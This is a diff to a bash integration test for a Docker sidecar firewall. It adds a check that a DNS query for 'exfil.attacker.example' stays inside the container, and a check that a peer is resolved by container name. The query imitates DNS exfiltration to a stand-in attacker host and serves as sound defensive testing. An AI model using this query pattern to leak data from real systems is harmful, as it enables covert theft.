@@ -272,12 +272,51 @@ s.sendto(struct.pack('!HHHH',4000,9999,8+len(p),0)+p,('172.20.0.30',9999))"
     check "the filter counted the raw packet as foreign-socket" \
         bash -c "docker exec fips-sidecar fipsctl show firewall --json | grep -q foreign"
 
+    # Docker's resolver, asked by the app for a name outside: it forwards
+    # only to the sidecar's own server (compose `dns: [127.0.0.1]`), which
+    # refuses at once; nothing tries to leave through eth0.
+    egress_drops() {
+        docker exec fips-sidecar fipsctl show firewall --json | python3 -c "
+import json,sys
+v=json.load(sys.stdin)
+print(sum(c.get('packets',0) for c in v.get('counters',[]) if c.get('direction')=='egress' and c.get('reason')=='wrong-port'))"
+    }
+    docker_dns_stays_inside() {
+        local before after answer
+        before="$(egress_drops)"
+        answer="$(docker exec -i fips-app python3 - <<'EOP'
+import socket,struct,time
+q=struct.pack('!HHHHHH',0x4242,0x0100,1,0,0,0)+b'\x05exfil\x08attacker\x07example\x00'+struct.pack('!HH',1,1)
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3)
+t=time.monotonic(); s.sendto(q,('127.0.0.11',53))
+d,_=s.recvfrom(2048)
+print('rcode=%d answers=%d secs=%.2f'%(d[3]&15,struct.unpack('!H',d[6:8])[0],time.monotonic()-t))
+EOP
+)" || return 1
+        after="$(egress_drops)"
+        say "127.0.0.11 answered: $answer; eth0 egress wrong-port drops $before -> $after"
+        [[ "$answer" == *"answers=0"* ]] && [ "$before" = "$after" ]
+    }
+    check "Docker's resolver keeps the app's outside names inside (answered, none sent out)" docker_dns_stays_inside
+
     say "killing the daemon inside the sidecar (kill -9)"
     check "the daemon can be killed" docker exec fips-sidecar sh -c 'kill -9 $(pidof fips)'
     check_not "after the kill, the bridge is still blocked" docker exec fips-app ping -c1 -W2 172.20.0.13
     check_not "after the kill, raw UDP still gets nowhere" \
         bash -c "docker exec fips-app python3 -c \"import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.sendto(b'x',('172.20.0.30',9999))\"; sleep 1; docker logs fips-test-listener 2>&1 | grep -q GOT"
     check "the daemon comes back and the mesh answers again" wait_for 60 docker exec fips-app ping6 -c1 -W2 "$NPUB_A.fips"
+
+    # Beyond the seed: the peer named by its container name, resolved by
+    # the daemon through Docker's resolver (and again if it moves).
+    say "\$ FIPS_PEER_ADDR=fips-node-d:4000 ... docker compose up -d"
+    check "the sidecar starts with its peer given by container name" env FIPS_NETWORK=static_fips-net \
+        FIPS_SUBNET=172.20.0.0/24 FIPS_IPV4=172.20.0.20 FIPS_PEER_NPUB=$NPUB_D \
+        FIPS_PEER_ADDR=fips-node-d:4000 FIPS_PEER_ALIAS=node-d docker compose up -d
+    check "the daemon resolved fips-node-d itself and links to it" wait_for 60 \
+        bash -c "docker logs fips-sidecar 2>&1 | grep -q 'peer addresses from host names' &&
+                 docker exec fips-sidecar fipsctl show links | grep -q '172.20.0.13:4000.*connected'"
+    check "the mesh answers through the peer found by name" wait_for 60 \
+        docker exec fips-app ping6 -c1 -W2 "$NPUB_A.fips"
 
     summary
     [ "$FAILED" -eq 0 ]
